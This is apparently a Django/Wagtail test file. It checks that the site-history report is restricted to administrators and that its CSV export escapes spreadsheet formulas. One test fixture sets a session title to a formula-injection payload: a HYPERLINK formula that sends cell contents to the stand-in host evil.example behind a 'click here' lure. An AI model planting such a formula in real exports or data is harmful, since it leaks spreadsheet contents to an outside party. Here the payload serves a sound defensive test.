"""Reports → Site history: administrators only (it lists roster exports of every class), exports escaped."""

import pytest
from django.urls import reverse
from wagtail.log_actions import log

from campaigns.access.roles import Role

from ..factories.trainings import TrainingSessionFactory
from ..factories.users import UserFactory, unit

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("catalogue")]


@pytest.fixture
def history(admin_user):
    session = TrainingSessionFactory(title='=HYPERLINK("https://evil.example/?x="&A1,"Bấm vào đây")')
    log(instance=session, action="trainings.export_roster", user=admin_user, data={"format": "xlsx"})
    return session


@pytest.mark.parametrize("role", [Role.COMMUNICATIONS, Role.TRAINER, Role.UNIT_OFFICER, Role.LEADER])
def test_site_history_is_refused_to_every_role_but_administrators(client, history, role):
    client.force_login(UserFactory(role=role, scopes=[unit("23152")]))
    for name in ("wagtailadmin_reports:site_history", "wagtailadmin_reports:site_history_results"):
        response = client.get(reverse(name))
        assert response.status_code in (302, 403), name
        assert "HYPERLINK" not in response.content.decode()
    menu = client.get(reverse("wagtailadmin_home")).content.decode()
    assert reverse("wagtailadmin_reports:site_history") not in menu


def test_administrators_see_site_history_and_its_csv_export_is_escaped(client, history):
    client.force_login(UserFactory(role=Role.ADMINISTRATOR))
    assert client.get(reverse("wagtailadmin_reports:site_history")).status_code == 200
    response = client.get(reverse("wagtailadmin_reports:site_history"), {"export": "csv"})
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    assert "'=HYPERLINK" in text
    assert ",=HYPERLINK" not in text and '"=HYPERLINK' not in text
